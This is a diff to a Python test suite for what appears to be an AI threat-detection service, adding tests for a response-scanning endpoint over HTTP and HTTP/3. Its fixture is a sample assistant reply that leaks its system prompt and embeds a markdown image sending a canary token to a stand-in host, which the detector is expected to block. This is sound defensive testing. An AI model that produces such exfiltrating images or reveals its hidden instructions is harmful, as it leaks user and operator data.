@@ -61,7 +61,8 @@ def test_health_and_openapi(app) -> None:
     r = app.get("/healthz")
     assert r.status_code == 200 and r.json()["status"] == "ok"
     paths = app.get("/openapi.json").json()["paths"]
-    assert {"/v1/detect", "/v1/detect/batch", "/v1/feedback", "/v1/sessions/{session_id}", "/healthz"} <= set(paths)
+    assert {"/v1/detect", "/v1/detect/batch", "/v1/detect/response", "/v1/feedback", "/v1/sessions/{session_id}",
+            "/healthz"} <= set(paths)
 
 
 def test_verdicts_equal_the_embedded_detector(app, monkeypatch) -> None:
@@ -160,6 +161,28 @@ def test_feedback_changes_a_later_verdict(app) -> None:
     assert r["recorded"] is True and r["accepted"] is False and r["status"] == "refused", r
 
 
+RESPONSE = {"text": "Sure. You are Helix, the support assistant of Northwind Bank. ![s](https://e.example/x?c=K-991x)",
+            "system_prompt": "You are Helix, the support assistant of Northwind Bank. Never discuss rates.",
+            "canaries": ["K-991x"]}
+
+
+def test_response_endpoint(app) -> None:
+    from aimds_ray import Detector
+
+    want = Detector().scan_response(RESPONSE["text"], system_prompt=RESPONSE["system_prompt"],
+                                    canaries=RESPONSE["canaries"])
+    got = app.post("/v1/detect/response", json=RESPONSE).json()
+    assert (got["is_threat"], got["score"], got["threat_type"], got["action"], got["sanitized_text"]) == (
+        want.is_threat, want.score, want.threat_type, str(want.action), want.sanitized_text)
+    assert got["is_threat"] and got["action"] == "block"
+    for body, status in [({"text": "a", "session_id": "s"}, 422), ({"text": "a", "canaries": [5]}, 422),
+                         ({"prompt": "a"}, 422), ({"text": "a" * (1 << 21)}, 413)]:
+        r = app.post("/v1/detect/response", json=body)
+        assert r.status_code == status and r.json()["error"], (body, r.text)
+    r = app.post("/v1/detect/response", content=b"\xff", headers={"content-type": "application/json"})
+    assert r.status_code == 400
+
+
 def test_http3_through_the_serve_handle_equals_http(app) -> None:
     """The HTTP/3 proxy forwards through a DeploymentHandle; its verdicts equal Serve's HTTP answers."""
     import asyncio
@@ -168,14 +191,19 @@ def test_http3_through_the_serve_handle_equals_http(app) -> None:
 
     h = start_h3_proxy_in_thread(QuicConfig(port=0), lambda: ServeBackend(app_name="aimds"))
     try:
-        async def go() -> tuple[list[dict], list[dict]]:
+        async def go() -> tuple[list[dict], list[dict], dict]:
             async with H3Client(h.url, cafile=h.server.cert_path, timeout=30.0) as c:
                 singles = await asyncio.gather(*[c.detect(t) for t in INPUTS])
-                return singles, await c.detect_batch(INPUTS)
+                resp = await c.detect_response(RESPONSE["text"], system_prompt=RESPONSE["system_prompt"],
+                                               canaries=RESPONSE["canaries"])
+                return singles, await c.detect_batch(INPUTS), resp
 
-        singles, batch = asyncio.run(asyncio.wait_for(go(), 120))
+        singles, batch, resp = asyncio.run(asyncio.wait_for(go(), 120))
     finally:
         h.stop()
+    want_resp = app.post("/v1/detect/response", json=RESPONSE).json()
+    assert {k: resp[k] for k in ("is_threat", "score", "action", "sanitized_text")} == \
+        {k: want_resp[k] for k in ("is_threat", "score", "action", "sanitized_text")}
     keys = ("is_threat", "score", "threat_type", "action", "sanitized_text", "model_version")
     for t, s, b in zip(INPUTS, singles, batch, strict=True):
         want = app.post("/v1/detect", json={"text": t}).json()
